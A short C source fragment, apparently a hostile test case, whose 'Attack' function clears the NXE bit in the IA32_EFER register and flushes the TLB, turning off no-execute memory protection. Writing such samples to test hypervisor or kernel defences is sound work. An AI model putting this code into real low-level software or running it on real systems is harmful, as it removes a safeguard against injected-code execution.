/* SPDX-License-Identifier: MIT */
/* Turns no-execute off, which page tables use. */
#include "hostile.h"

static VOID Attack(VOID)
{
    WriteMsr(0xC0000080, ReadMsr(0xC0000080) & ~0x800ull);
    WriteCr3(ReadCr3());
}
